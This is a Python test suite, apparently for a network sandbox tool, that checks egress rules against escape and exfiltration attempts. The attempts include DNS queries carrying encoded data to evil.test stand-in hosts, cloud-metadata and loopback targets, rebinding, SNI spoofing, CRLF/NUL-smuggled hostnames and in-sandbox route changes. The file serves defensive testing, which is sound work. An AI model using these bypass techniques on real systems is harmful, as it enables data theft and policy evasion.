        # a process that made itself non-dumpable (as ssh-agent and some
        # browsers do): the kernel gives its /proc/PID/fd to root
        # (task_dump_owner(): the sandbox's uid 0 is unmapped), and that
        # directory is checked by mode bits alone (proc_fd_permission()).
        # porta as root reads it and names the process; porta as a user
        # cannot, and the records leave pid and comm out (README)
        wrap = ("import ctypes, sys; libc = ctypes.CDLL(None); "
                "assert libc.prctl(4, 0, 0, 0, 0) == 0 and libc.prctl(3, 0, 0, 0, 0) == 0; "
                "src = sys.argv.pop(1); exec(compile(src, 'netprobe', 'exec'))")
        steps = [{"op": "dns", "server": DNS, "name": "allowed.test"},
                 {"op": "proxy", "target": "allowed.test:443", "then": "tls", "sni": "allowed.test",
                  "cafile": ca}]
        run = self.porta(["--allow-net", "allowed.test:443"],
                         [PY, "-c", wrap, PROBE_SRC, json.dumps(steps), "undumpable"])
        self.assertIsNotNone(run.probe, run.describe())
        self.res_ok(run, 1)
        self.assertEqual(sorted({r["kind"] for r in run.audit}), ["dns", "proxy"], run.describe())
        want = (run.probe["pid"], "undumpable") if IS_ROOT else (None, None)
        for r in run.audit:
            self.assertEqual((r.get("pid"), r.get("comm")), want, r)
        # a child of a shell: the holder is found among all of the
        # sandbox's processes, not only the command itself
        script = ("curl -sS -m 5 --cacert %(ca)s https://allowed.test/; "
                  "curl -sS -m 5 --noproxy '*' --cacert %(ca)s https://allowed.test/" % {"ca": ca})
        run = self.porta(["--allow-net", "allowed.test:443"], ["/bin/sh", "-c", script])
        self.assertEqual(run.out.split("\n"), ["tls allowed"] * 2 + [""], run.describe())
        self.assertEqual(sorted({r["kind"] for r in run.audit}), ["connect", "dns", "proxy"],
                         run.describe())
        for r in run.audit:
            self.assertEqual(r.get("comm"), "curl", r)
            self.assertIsInstance(r.get("pid"), int, r)
            self.assertGreater(r["pid"], 1, "init is pid 1, the shell's child is not: %r" % r)
        # two curls, one after the other: two processes
        by_kind = {k: {r["pid"] for r in run.audit if r["kind"] == k} for k in ("proxy", "connect")}
        self.assertEqual(len(by_kind["proxy"]), 1, run.describe())
        self.assertEqual(len(by_kind["connect"]), 1, run.describe())
        self.assertNotEqual(by_kind["proxy"], by_kind["connect"], run.describe())

    def test_command_killed_with_connections_open(self):
        # The command dies (SIGKILL) with a relayed connection and a
        # connection still being sniffed open: porta ends the same way, its
        # relays end as reset with a close record, the server sees its
        # connection end, and no process of the run remains.
        ca = self.lab.ca_file
        script = (
            "import os, signal, socket, ssl, sys\n"
            "ctx = ssl.create_default_context(cafile=%r)\n"
            "a = ctx.wrap_socket(socket.create_connection(('allowed.test', 443), timeout=5),"
            " server_hostname='allowed.test')\n"
            "a.sendall(b'GET /open HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n')\n"
            "a.recv(100)\n"
            "b = socket.create_connection(('web.allowed.test', 80), timeout=5)\n"
            "b.sendall(b'GE')\n"
            "print('open', flush=True)\n"
            "os.kill(os.getpid(), signal.SIGKILL)\n" % ca)
        run = self.porta(ALLOW_MAIN, [PY, "-c", script])
        self.assertEqual(run.out, "open\n", run.describe())
        self.assertEqual(run.rc, -signal.SIGKILL, run.describe())
        self.assertNotIn("AddressSanitizer", run.err)
        closes = [r for r in run.audit if "bytes_up" in r]
        self.assertTrue(any(r["host"] == "allowed.test" for r in closes), run.describe())

    def test_hints_name_the_refused_destination(self):
        # the hint is the option that would allow what was refused: never
        # the resolver's address (which would open TCP to the resolver and
        # still not allow the refusal), and none where no option can
        steps = [{"op": "dns", "server": DNS, "name": "loop.allowed.test"},
                 {"op": "dns", "server": DNS, "name": "meta.allowed.test"},
                 {"op": "udp", "host": "127.0.0.1", "port": 53, "send": "x", "wait": 0.5},
                 {"op": "proxy", "target": "www.\u00d0\u00b0llowed.test:443", "then": "raw"}]
        run = self.probe(["--allow-net", "*.allowed.test:443"], steps)
        bad = [r for r in run.audit if r["verdict"] != "allow" and r["hint"]
               and r["kind"] == "dns" and r["hint"] == "--allow-net %s" % r["dst"]]
        self.assertEqual(bad, [], "a DNS refusal hints at the resolver's own address\n" + run.describe())
        bad = [r for r in run.audit if r["reason"] and r["reason"].startswith("malformed") and r["hint"]]
        self.assertEqual(bad, [], "a hint for something no option can allow\n" + run.describe())
        for name, addr in (("loop.allowed.test", "127.0.0.1"), ("meta.allowed.test", "169.254.169.254")):
            recs = [r for r in run.audit if r["host"] == name and r["verdict"] == "deny"]
            self.assertTrue(recs, run.describe())
            self.assertTrue(all(r["hint"] is None or addr in r["hint"] for r in recs), recs)

    def test_loopback_inside_the_sandbox_works(self):
        # As under --no-net (integration/netnone): a server and a client
        # inside the sandbox talk over its own loopback, on a port no rule
        # names; this never leaves the sandbox's namespace.
        script = ("import socket\n"
                  "s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(1)\n"
                  "c = socket.create_connection(s.getsockname(), timeout=3)\n"
                  "a, _ = s.accept(); a.sendall(b'ok'); print(c.recv(2).decode())\n")
        run = self.porta(["--allow-net", "allowed.test:443"], [PY, "-c", script])
        self.assertEqual((run.rc, run.out), (0, "ok\n"), run.describe())
        self.no_canary(run)


# ===========================================================================
# The corpus rows
# ===========================================================================

class Row24NoNet(NetPolicyCase):

    def test_no_net_reaches_nothing(self):
        steps = [{"op": "tcp", "host": "127.0.0.1", "port": 18080, "send": "x"},
                 {"op": "tcp", "host": netlab.CLIENT_V4, "port": 18080, "send": "x"},
                 {"op": "tcp", "host": WEB, "port": 80, "send": "GET / HTTP/1.0\r\n\r\n"},
                 {"op": "dns", "server": DNS, "name": "nonet.evil.test", "wait": 1},
                 {"op": "dns", "server": DNS, "name": "nonet2.evil.test", "transport": "tcp", "wait": 1},
                 {"op": "udp", "host": DNS, "port": 5353, "send": "x"},
                 {"op": "resolve", "name": "allowed.test"}]
        run = self.probe(["--no-net"], steps, dns=False, audit=False)
        for i in range(len(steps)):
            if steps[i]["op"] == "dns" and not harness.DEGRADED:
                # resolv.conf's resolver is local inside: porta answers
                # "no such host" itself, the lab's resolver hears nothing
                # (a degraded host has no responder: refused like the rest)
                r = run.results[i]
                self.assertEqual((r.get("rcode"), r.get("answers")), (3, []), run.describe())
                self.assertIn("porta: refused %s (no net)" % steps[i]["name"],
                              run.err)
            else:
                self.res_refused(run, i)
        self.zero("web", "canary 127.0.0.1:18080", "canary 192.0.2.2:18080")
        self.no_canary(run)
        self.assertEqual(self.lab.queries(), [])
        self.assertNotIn("_proxy", run.out.lower())
        with self.subTest("ping"):
            if not HAVE["ping"]:
                self.skipTest("ping is not installed: ICMP under --no-net not tried")
            ping = self.porta(["--no-net"], ["ping", "-c", "1", "-W", "1", WEB], dns=False, audit=False)
            self.assertNotEqual(ping.rc, 0, ping.describe())


class Row25ClosedPorts(NetPolicyCase):

    def test_ports_no_rule_names_are_refused_at_once_and_recorded(self):
        steps = [{"op": "resolve", "name": "allowed.test"}]
        steps += [{"op": "tcp", "host": "allowed.test", "port": p, "send": "x"} for p in (80, 22, 8443)]
        steps += [{"op": "tcp", "host": TLS, "port": 22, "send": "SSH-2.0-x\r\n"}]
        if self.lab.ipv6:
            steps += [{"op": "tcp", "host": "2001:db8::11", "port": 22, "send": "SSH-2.0-x\r\n"}]
        t0 = time.monotonic()
        run = self.probe(["--allow-net", "allowed.test:443"], steps, comm="probe-r25")
        self.assertLess(time.monotonic() - t0, 10, "refusals should be immediate")
        self.assertEqual(self.res_ok(run, 0)["addrs"], [TLS])
        for i in range(1, len(steps)):
            self.assertEqual(self.res_refused(run, i)["error"], "ECONNREFUSED", run.describe())
        self.zero("canary 203.0.113.11:80", "canary 203.0.113.11:22", "canary 203.0.113.11:8443")
        self.no_canary(run)
        pid = run.probe["pid"]
        dsts = ["%s:%d" % (TLS, port) for port in (80, 22, 8443)]
        if self.lab.ipv6:
            dsts.append("[2001:db8::11]:22")
        for dst in dsts:
            recs = self.denied(run, dst, kind="connect")
            self.assertTrue(any(r.get("pid") == pid and r.get("comm") == "probe-r25" for r in recs),
                            "the refusal of %s does not name the dialling process (pid %d, "
                            "probe-r25): %r" % (dst, pid, recs))
        # the address was porta's answer for allowed.test: the hint names
        # that name on the port the program used (plain HTTP: 80), not an
        # address the name may stop resolving to
        for port in (80, 22, 8443):
            want = "--allow-net allowed.test:%d" % port
            recs = self.records(run, kind="connect", dst="%s:%d" % (TLS, port))
            self.assertTrue(recs and all(r["hint"] == want for r in recs),
                            "hints for %s:%d: %r" % (TLS, port, [r["hint"] for r in recs]))
            self.assertTrue(any(l.endswith("; allow with " + want) for l in run.err.splitlines()),
                            run.describe())

    def test_stderr_one_line_per_destination_and_a_summary(self):
        steps = [{"op": "tcp", "host": TLS, "port": 22, "send": "x"} for _ in range(3)]
        run = self.probe(["--allow-net", "allowed.test:443"], steps)
        lines = [l for l in run.err.splitlines() if "%s:22" % TLS in l]
        # one line when it happens, one in the summary at the end
        self.assertEqual(len(lines), 2, run.describe())
        self.assertTrue(all("--allow-net" in l for l in lines), lines)
        self.assertEqual(len(self.records(run, kind="connect", dst="%s:22" % TLS)), 3, run.describe())

    def test_quiet_silences_stderr_but_not_the_audit(self):
        steps = [{"op": "tcp", "host": TLS, "port": 22, "send": "x"}]
        run = self.probe(["--allow-net", "allowed.test:443"], steps, quiet=True)
        self.res_refused(run, 0)
        self.assertNotIn("%s:22" % TLS, run.err, run.describe())
        self.assertTrue(self.records(run, kind="connect", dst="%s:22" % TLS, verdict="deny"))


class Row26UdpOut(NetPolicyCase):

    def test_udp_gets_no_answer(self):
        quic = "\xc3\x00\x00\x00\x01" + "\x00" * 40
        steps = [{"op": "udp", "host": TLS, "port": 443, "send": quic},
                 {"op": "udp", "host": TLS, "port": 443, "send": quic, "connect": True},
                 {"op": "udp", "host": DNS, "port": 5353, "send": "query"},
                 {"op": "dns", "server": DNS, "port": 5353, "name": "udp.evil.test", "wait": 1},
                 {"op": "udp", "host": "127.0.0.1", "port": 53, "send": "x", "wait": 1}]
        run = self.probe(["--allow-net", "allowed.test:443"], steps)
        for i in range(4):
            self.res_refused(run, i)
        self.assertEqual(self.lab.canary_hits(), {}, run.describe())
        self.assertEqual(self.lab.queries(), [])


    def test_udp_connect_is_recorded(self):
        # "records every attempt": a QUIC client connect()s its UDP socket;
        # rules allow TCP only, so the attempt is refused or at least seen
        steps = [{"op": "udp", "host": TLS, "port": 443, "send": "quic", "connect": True, "wait": 0.5}]
        run = self.probe(["--allow-net", "allowed.test:443"], steps, comm="quic-probe")
        self.res_refused(run, 0)
        self.assertEqual(self.lab.canary_hits(), {})
        recs = [r for r in self.records(run, kind="connect", dst="%s:443" % TLS)
                if r["verdict"] != "allow"]
        self.assertTrue(recs, "the UDP connect() to :443 left no audit record\n" + run.describe())


class Row27DnsExfiltration(NetPolicyCase):

    def test_refused_names_never_reach_the_upstream(self):
        steps = [{"op": "dns", "server": DNS, "name": "6578666c.evil.test"},
                 {"op": "dns", "server": DNS, "name": "tcp-6578666c.evil.test", "transport": "tcp"},
                 {"op": "dns", "server": DNS, "name": "txt.evil.test", "qtype": "TXT"},
                 {"op": "dns", "server": DNS, "name": "any.evil.test", "qtype": "ANY"},
                 {"op": "dns", "server": OTHER_RESOLVER, "name": "other.evil.test"},
                 {"op": "dns", "server": DNS, "name": "DaTa.EVIL.Test", "qtype": "AAAA"},
                 {"op": "dns", "server": DNS, "name": "allowed.test", "qtype": "TXT"},
                 {"op": "dns", "server": DNS, "name": "allowed.test"},
                 {"op": "resolve", "name": "resolver.evil.test"}]
        if self.lab.ipv6:
            steps.append({"op": "dns", "server": "2001:db8::53", "name": "v6.evil.test"})
        run = self.probe(["--allow-net", "allowed.test:443"], steps)
        for i in range(6):
            r = self.res_ok(run, i, "porta answers every DNS query itself")
            self.assertTrue(r["id_ok"])
            self.assertEqual((r["rcode"], r["answers"]), (3, []), "step %d: NXDOMAIN\n%s" % (i, run.describe()))
        txt = self.res_ok(run, 6)
        self.assertEqual((txt["rcode"], txt["answers"]), (0, []), "other types: an empty answer")
        self.assertEqual(self.res_ok(run, 7)["answers"], [TLS])
        self.res_refused(run, 8)
        if self.lab.ipv6:
            self.assertEqual(self.res_ok(run, 9)["rcode"], 3)
        self.no_upstream("evil.test")
        self.assertEqual([q["type"] for q in self.lab.queries("allowed.test", below=False)], ["A"])
        self.assertEqual(self.lab.canary_hits(), {})
        for name in ("6578666c.evil.test", "tcp-6578666c.evil.test", "txt.evil.test", "any.evil.test"):
            self.denied(run, name, kind="dns", hint=False)


class Row28DeniedAnswers(NetPolicyCase):

    NAMES = ("loop.allowed.test", "meta.allowed.test", "private.allowed.test", "cgnat.allowed.test",
             "self.allowed.test", "mapped.allowed.test", "loop6.allowed.test")

    def test_allowed_names_resolving_to_denied_addresses(self):
        rules = ["--allow-net", "*.allowed.test:443"]
        steps = []
        for n in self.NAMES:
            steps += [{"op": "dns", "server": DNS, "name": n, "qtype": "A"},
                      {"op": "dns", "server": DNS, "name": n, "qtype": "AAAA"}]
        for n in self.NAMES:
            steps += [{"op": "proxy", "target": "%s:443" % n, "then": "raw", "send_hex": "16030100"},
                      {"op": "socks", "target": n, "port": 443, "then": "raw", "send_hex": "16030100"},
                      {"op": "tls", "host": TLS, "port": 443, "sni": n, "verify": False}]
        run = self.probe(rules, steps)
        k = 2 * len(self.NAMES)
        for i in range(k):
            r = run.results[i]
            if r["ok"]:
                bad = [a for a in r["answers"] if not a.startswith("type") and
                       _default_denied(a)]
                self.assertEqual(bad, [], "porta's DNS handed out %s\n%s" % (bad, run.describe()))
        for i in range(k, len(steps)):
            r = run.results[i]
            self.assertFalse(r["ok"] and (r.get("data") or r.get("body")),
                             "step %d %r got through\n%s" % (i, steps[i], run.describe()))
        self.no_canary(run)
        for n in self.NAMES:
            self.denied(run, n, hint=False)

    def test_rebinding_name_ttl_0(self):
        steps = []
        for _ in range(3):
            steps += [{"op": "dns", "server": DNS, "name": "rebind.allowed.test"},
                      {"op": "proxy", "target": "rebind.allowed.test:443", "then": "tls",
                       "sni": "rebind.allowed.test", "cafile": self.lab.ca_file},
                      {"op": "tls", "host": "rebind.allowed.test", "port": 443,
                       "sni": "rebind.allowed.test", "cafile": self.lab.ca_file},
                      {"op": "tcp", "host": "rebind.allowed.test", "port": 443, "send": "x"}]
        run = self.probe(["--allow-net", "*.allowed.test:443"], steps)
        for i in range(0, len(steps), 4):
            r = run.results[i]
            if r["ok"]:
                self.assertNotIn("127.0.0.1", r["answers"], run.describe())
        self.no_canary(run)
        # the public answer is fine to reach; loopback never
        for rec in self.lab.requests(self.servers["reb"]):
            self.assertEqual(rec.get("sni"), "rebind.allowed.test")


def _default_denied(a):
    ip = ipaddress.ip_address(a)
    if getattr(ip, "ipv4_mapped", None):
        ip = ip.ipv4_mapped
    return (ip.is_loopback or ip.is_link_local or ip.is_private or ip.is_unspecified
            or ip.is_multicast or str(ip) == netlab.CLIENT_V4 or ip in ipaddress.ip_network("100.64.0.0/10"))


class Row29Literals(NetPolicyCase):

    SPELLINGS = ("127.1", "2130706433", "0x7f000001", "0177.0.0.1", "[::1]", "[::ffff:127.0.0.1]",
                 "0.0.0.0", "[::]", "localhost", "[::ffff:7f00:1]")

    def test_literals_through_the_proxy_and_transparently(self):
        rules = ["--allow-net", "*:443", "--allow-net", "*:18080"]
        steps = []
        for sp in self.SPELLINGS:
            for port in (443, 18080):
                steps.append({"op": "proxy", "target": "%s:%d" % (sp, port), "then": "raw",
                              "send_hex": "474554202f20485454502f312e300d0a0d0a"})
                steps.append({"op": "socks", "target": sp.strip("[]"), "port": port, "then": "raw",
                              "send_hex": "474554202f20485454502f312e300d0a0d0a"})
            steps.append({"op": "proxy", "request": "GET http://%s:18080/ HTTP/1.1\r\nHost: %s:18080\r\n\r\n"
                          % (sp, sp)})
        n_proxy = len(steps)
        for ip in ("127.0.0.1", "::1", "0.0.0.0", "::ffff:127.0.0.1"):
            steps.append({"op": "tls", "host": ip, "port": 443, "sni": None, "verify": False})
            steps.append({"op": "tcp", "host": ip, "port": 18080, "send": "hello"})
        steps.append({"op": "socks", "target": "127.0.0.1", "atyp": "ipv4", "port": 18080, "then": "raw",
                      "send_hex": "00"})
        steps.append({"op": "socks", "target": "::1", "atyp": "ipv6", "port": 443, "then": "raw",
                      "send_hex": "00"})
        run = self.probe(rules, steps)
        for i, r in enumerate(run.results):
            self.assertFalse(r["ok"] and (r.get("data") or r.get("body")),
                             "step %d %r got through: %r\n%s" % (i, steps[i], r, run.describe()))
            if i < n_proxy:
                self.assertFalse(r["ok"], "step %d %r: the proxy accepted it\n%s"
                                 % (i, steps[i], run.describe()))
        self.no_canary(run)
        self.assertGreaterEqual(len(self.records(run, kind="proxy", verdict="deny")) +
                                len(self.records(run, kind="proxy", verdict="error")),
                                n_proxy, run.describe())


class Row30SniVsAddress(NetPolicyCase):

    def test_allowed_sni_to_evil_address_reaches_only_the_allowed_server(self):
        ca = self.lab.ca_file
        steps = [{"op": "tls", "host": EVIL, "port": 443, "sni": "allowed.test", "cafile": ca},
                 {"op": "resolve", "name": "allowed.test"},
                 {"op": "tls", "host": EVIL, "port": 443, "sni": "allowed.test", "cafile": ca}]
        run = self.probe(["--allow-net", "allowed.test:443"], steps)
        self.zero("evil_tls")
        for i in (0, 2):
            r = run.results[i]
            if r["ok"]:
                self.assertEqual(r["body"], "tls allowed", run.describe())
        self.assertTrue(self.lab.requests(self.servers["tls"]),
                        "the allowed server should get the connection\n" + run.describe())
        self.no_canary(run)

    @unittest.skipUnless(HAVE["curl"], "curl is not installed")
    def test_curl_resolve_to_evil(self):
        run = self.porta(["--allow-net", "allowed.test:443"],
                         ["curl", "-sS", "-m", "5", "--noproxy", "*", "--cacert", self.lab.ca_file,
                          "--resolve", "allowed.test:443:%s" % EVIL, "https://allowed.test/r30"])
        self.zero("evil_tls")
        if run.rc == 0:
            self.assertEqual(run.out.strip(), "tls allowed", run.describe())
        self.assertTrue(self.lab.requests(self.servers["tls"]), run.describe())


class Row31SniMismatch(NetPolicyCase):

    def test_connect_allowed_then_other_sni(self):
        ca = self.lab.ca_file
        steps = [{"op": "proxy", "target": "allowed.test:443", "then": "tls", "sni": "allowed.test",
                  "cafile": ca},
                 {"op": "proxy", "target": "allowed.test:443", "then": "tls", "sni": "other.test",
                  "cafile": ca},
                 {"op": "socks", "target": "allowed.test", "port": 443, "then": "tls", "sni": "other.test",
                  "cafile": ca},
                 {"op": "tls", "host": TLS, "port": 443, "sni": "other.test", "cafile": ca}]
        run = self.probe(["--allow-net", "allowed.test:443"], steps)
        self.assertEqual(self.res_ok(run, 0)["body"], "tls allowed")
        for i in (1, 2, 3):
            self.res_refused(run, i)
        # (a tunnel may be dialled when the CONNECT is allowed; what the
        # server must never see is a ClientHello: no SNI, no request)
        reqs = self.lab.requests(self.servers["tls"])
        self.assertEqual([r.get("sni") for r in reqs if r.get("sni") or r.get("method")],
                         ["allowed.test"], reqs)
        self.no_upstream("other.test")
        self.denied(run, "other.test", hint=False)
        self.assertTrue(self.records(run, reason="sni-mismatch"), run.describe())

    def test_shared_certificate_server_sees_zero_bytes(self):
        steps = [{"op": "proxy", "target": "allowed.test:443", "then": "tls", "sni": "other.test",
                  "cafile": self.lab.ca_file}]
        run = self.probe(["--allow-net", "allowed.test:443"], steps)
        self.res_refused(run, 0)
        self.no_bytes("tls")


class Row32NoSniNoHost(NetPolicyCase):

    def test_missing_or_doubled_names(self):
        rules = ALLOW_MAIN
        steps = [{"op": "resolve", "name": "allowed.test"},
                 {"op": "resolve", "name": "web.allowed.test"},
                 {"op": "tls", "host": TLS, "port": 443, "sni": None, "http_host": "allowed.test",
                  "verify": False},
                 {"op": "tcp", "host": WEB, "port": 80, "send": "GET / HTTP/1.0\r\n\r\n"},
                 {"op": "tcp", "host": WEB, "port": 80,
                  "send": "GET / HTTP/1.1\r\nHost: web.allowed.test\r\nHost: evil.test\r\n\r\n"},
                 {"op": "tcp", "host": WEB, "port": 80,
                  "send": "GET / HTTP/1.1\r\nHost: web.allowed.test\r\nHost: web.allowed.test\r\n\r\n"},
                 {"op": "hello", "sni": None, "host": TLS, "port": 443}]
        run = self.probe(rules, steps)
        self.assertEqual(self.res_ok(run, 0)["addrs"], [TLS])
        self.assertEqual(self.res_ok(run, 1)["addrs"], [WEB])
        self.res_refused(run, 2)
        for i in (3, 4, 5):
            self.assertNotIn("web allowed", run.results[i].get("data", ""), run.describe())
        self.res_refused(run, 6)
        self.no_bytes("tls", "web", "evil_http")
        self.no_canary(run)
        self.assertGreaterEqual(len(self.records(run, verdict="deny", kind="connect")) +
                                len(self.records(run, verdict="deny", kind="proxy")), 4, run.describe())

    @unittest.skipUnless(shutil.which("openssl"), "openssl is not installed")
    def test_openssl_noservername(self):
        run = self.porta(["--allow-net", "allowed.test:443"],
                         ["/bin/sh", "-c", "echo | openssl s_client -showcerts -connect allowed.test:443 "
                          "-noservername -CAfile %s 2>&1; echo rc=$?" % self.lab.ca_file], timeout=20)
        self.assertNotIn("BEGIN CERTIFICATE", run.out, run.describe())
        self.assertIn("handshake has read 0 bytes", run.out, run.describe())
        self.no_bytes("tls")
        self.denied(run, "%s:443" % TLS, kind="connect", hint=False)


class Row33Spellings(NetPolicyCase):

    def test_suffix_and_spelling_tricks(self):
        ca = self.lab.ca_file
        rules = ["--allow-net", "*.allowed.test:443"]
        refused = ["evilallowed.test", "allowed.test.evil.test", "www.\u0430llowed.test",
                   "www.allowed.tes\u0074\u200b", "www.allowed.test..", "www..allowed.test",
                   "www.allowed.test%00", "*.allowed.test"]
        allowed = ["WWW.ALLOWED.TEST", "www.allowed.test.", "Www.Allowed.Test.", "ALLOWED.test"]
        steps = []
        for n in refused:
            enc = n.encode("utf-8").decode("latin-1")
            steps.append({"op": "proxy", "target": enc + ":443", "then": "tls", "sni": None,
                          "http_host": "x", "verify": False})
            steps.append({"op": "socks", "target": enc, "port": 443, "then": "raw", "send_hex": "00"})
            steps.append({"op": "dns", "server": DNS, "name": enc})
        n_refused = len(steps)
        for n in allowed:
            steps.append({"op": "proxy", "target": n + ":443", "then": "tls", "sni": n.lower().rstrip("."),
                          "cafile": ca})
            steps.append({"op": "socks", "target": n, "port": 443, "then": "tls", "sni": n.lower().rstrip("."),
                          "cafile": ca})
            steps.append({"op": "dns", "server": DNS, "name": n})
        run = self.probe(rules, steps)
        for i in range(n_refused):
            r = run.results[i]
            if steps[i]["op"] == "dns":
                self.assertIn(r.get("rcode"), (None, 3), "%r\n%s" % (steps[i], run.describe()))
                self.assertEqual(r.get("answers", []), [])
            else:
                self.assertFalse(r["ok"], "step %d %r\n%s" % (i, steps[i], run.describe()))
        for i in range(n_refused, len(steps)):
            r = self.res_ok(run, i, "uppercase and one trailing dot are the same name")
            www = steps[i].get("target", steps[i].get("name", "")).lower().startswith("www")
            if steps[i]["op"] == "dns":
                self.assertEqual(r["answers"], [WWW if www else TLS], run.describe())
            else:
                self.assertEqual(r["body"], "tls www" if www else "tls allowed", run.describe())
        self.zero("evil_tls", "evil_http")
        self.no_upstream("evil.test", "evilallowed.test")
        self.assertFalse([q for q in self.lab.queries() if q["name"] is None
                          or any(c in q["name"] for c in ("\\", "%", "*"))], self.lab.queries())
        self.no_canary(run)
        self.denied(run, "evilallowed.test")

    def test_ports_with_leading_zero_or_overflow(self):
        ca = self.lab.ca_file
        steps = [{"op": "proxy", "target": "z.allowed.test:65979", "then": "tls", "sni": "z.allowed.test",
                  "cafile": ca},
                 {"op": "proxy", "request": "GET http://z.allowed.test:65979/ HTTP/1.1\r\n"
                  "Host: z.allowed.test:65979\r\n\r\n"},
                 {"op": "proxy", "target": "z.allowed.test:-65093", "then": "raw", "send_hex": "00"},
                 {"op": "proxy", "target": "z.allowed.test:443x", "then": "raw", "send_hex": "00"},
                 {"op": "proxy", "target": "www.allowed.test:0443", "then": "tls",
                  "sni": "www.allowed.test", "cafile": ca}]
        run = self.probe(["--allow-net", "*.allowed.test:443"], steps)
        self.res_refused(run, 0, ":65979 must not wrap to :443")
        self.res_refused(run, 1, ":65979 must not wrap to :443 (absolute form)")
        self.res_refused(run, 2)
        self.res_refused(run, 3)
        r = run.results[4]
        if r["ok"]:            # :0443 may mean 443, never octal 291
            self.assertEqual(r["body"], "tls www", run.describe())
        self.zero("zzz", "canary 203.0.113.33:291", "canary 203.0.113.11:291")
        self.no_canary(run)


class Row34ProxyToLoopback(NetPolicyCase):

    def test_loopback_services_of_the_host(self):
        rules = ["--allow-net", "*:18080", "--allow-net", "*.allowed.test:443"]
        targets = ["127.0.0.1:18080", "localhost:18080", "loop.allowed.test:18080",
                   "%s:18080" % netlab.CLIENT_V4, "[::1]:18080", "127.0.0.1:443", "self.allowed.test:443"]
        steps = []
        for t in targets:
            steps.append({"op": "proxy", "target": t, "then": "raw", "send_hex": "68690a"})
            host, port = t.rsplit(":", 1)
            steps.append({"op": "socks", "target": host.strip("[]"), "port": int(port), "then": "raw",
                          "send_hex": "68690a"})
            steps.append({"op": "proxy", "request": "GET http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n" % (t, t)})
        # transparently: the sandbox's own loopback is porta's listener
        steps += [{"op": "tcp", "host": "127.0.0.1", "port": 18080, "send": "hi\n"},
                  {"op": "tcp", "host": "localhost", "port": 18080, "send": "hi\n"},
                  {"op": "tcp", "host": "loop.allowed.test", "port": 18080, "send": "hi\n"}]
        run = self.probe(rules, steps)
        for i, r in enumerate(run.results):
            self.assertNotIn("canary", r.get("data", "") + r.get("body", ""), run.describe())
            if steps[i]["op"] in ("proxy", "socks"):
                self.assertFalse(r["ok"], "step %d %r\n%s" % (i, steps[i], run.describe()))
        self.no_canary(run)
        self.zero("canary 127.0.0.1:18080", "canary 192.0.2.2:18080")
        self.denied(run, "127.0.0.1", hint=True)


class Row35Reconfigure(NetPolicyCase):

    def lab_network(self):
        out = []
        for args in (["-o", "addr"], ["route", "show", "table", "all"], ["-o", "link"]):
            r = self.lab.run(["ip"] + args)
            self.assertEqual(r.rc, 0, r.err)
            out.append(r.out)
        return out

    def test_sandbox_cannot_change_its_network(self):
        before = self.lab_network()
        steps = [{"op": "ip", "args": ["-o", "addr"]},
                 {"op": "ip", "args": ["addr", "add", "10.9.9.9/32", "dev", "lo"]},
                 {"op": "ip", "args": ["route", "add", "10.9.9.0/24", "dev", "lo"]},
                 {"op": "ip", "args": ["route", "del", "local", "0.0.0.0/0", "dev", "lo", "table", "local"]},
                 {"op": "ip", "args": ["link", "add", "porta0", "type", "dummy"]},
                 {"op": "ip", "args": ["link", "set", "lo", "down"]},
                 {"op": "ip", "args": ["-o", "addr"]}]
        run = self.probe(["--allow-net", "allowed.test:443"], steps)
        self.res_ok(run, 0)
        for i in range(1, 6):
            self.res_refused(run, i, "the sandbox changed its own network")
        self.assertEqual(run.results[0]["out"], run.results[6]["out"])
        self.assertEqual(self.lab_network(), before)
        with self.subTest("nft"):
            if not HAVE["nft"]:
                self.skipTest("nft is not installed: nftables inside the sandbox not tried")
            nft = self.porta(["--allow-net", "allowed.test:443"],
                             ["nft", "add", "table", "inet", "portaescape"])
            self.assertNotEqual(nft.rc, 0, nft.describe())


class Row36RelayAndSocksNames(NetPolicyCase):

    def test_socks_names_with_control_bytes(self):
        names = ["allowed.test\r\nevil.test", "evil.test\r\nallowed.test", "allowed.test\x00.evil.test",
                 "evil.test\x00allowed.test", "allowed.test\n", "allowed.test\x00"]
        steps = []
        for n in names:
            steps.append({"op": "socks", "target": n, "port": 443, "then": "tls", "sni": "allowed.test",
                          "verify": False})
            steps.append({"op": "proxy", "target": n + ":443", "then": "tls", "sni": "allowed.test",
                          "verify": False})
        run = self.probe(["--allow-net", "allowed.test:443"], steps)
        for i, r in enumerate(run.results):
            self.assertFalse(r["ok"], "step %d %r\n%s" % (i, steps[i], run.describe()))
        self.zero("evil_tls", "tls")
        self.no_upstream("evil.test")
        self.no_canary(run)
        raw = run.audit_text + run.err
        self.assertNotIn("\r", raw, "program-controlled CR printed raw")
        self.assertNotIn("\x00", raw, "program-controlled NUL printed raw")

    def test_relay_inside_the_sandbox(self):
        ca = self.lab.ca_file
        steps = [{"op": "relay", "target": "allowed.test", "port": 443, "cafile": ca},
                 {"op": "relay", "target": "evil.test", "port": 443, "cafile": ca}]
        run = self.probe(["--allow-net", "allowed.test:443"], steps)
        self.assertEqual(self.res_ok(run, 0)["body"], "tls allowed")
        self.res_refused(run, 1)
        self.zero("evil_tls")
        self.no_upstream("evil.test")
        self.denied(run, "evil.test")


# Asks the sandbox's resolver (the first nameserver of its resolv.conf) for
# argv[1] names no rule allows, n0.flood.test, n1.flood.test, ..., one A
# query each, waiting for each answer (a lost one is asked again); prints
# {"names": N, "queries": Q (datagrams sent), "answered": A}.
FLOOD = r"""
import json, socket, struct, sys
ns = next(l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver"))
s = socket.socket(socket.AF_INET6 if ":" in ns else socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
n, sent, answered = int(sys.argv[1]), 0, 0
for i in range(n):
    qid = i & 0xffff
    name = b"".join(bytes([len(l)]) + l for l in (b"n%d" % i, b"flood", b"test")) + b"\0"
    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)
    for attempt in range(3):
        s.sendto(q, (ns, 53))
        sent += 1
        try:
            while struct.unpack(">H", s.recv(4096)[:2])[0] != qid:
                pass
            answered += 1
            break
        except socket.timeout:
            continue
print(json.dumps({"names": n, "queries": sent, "answered": answered}))
"""


class ReportBounds(NetPolicyCase):
    """A flood of refused names (a loop asking for 100,000 of them) costs a
    bounded stderr and a bounded audit: 50 lines of refusals and one saying
    the rest are counted, a summary of the first 50 and how many more, and
    an audit that stops at --audit-max, its last record counting by kind and
    verdict what was not written.  Refused names are answered by porta and
    never leave, so no upstream is involved."""

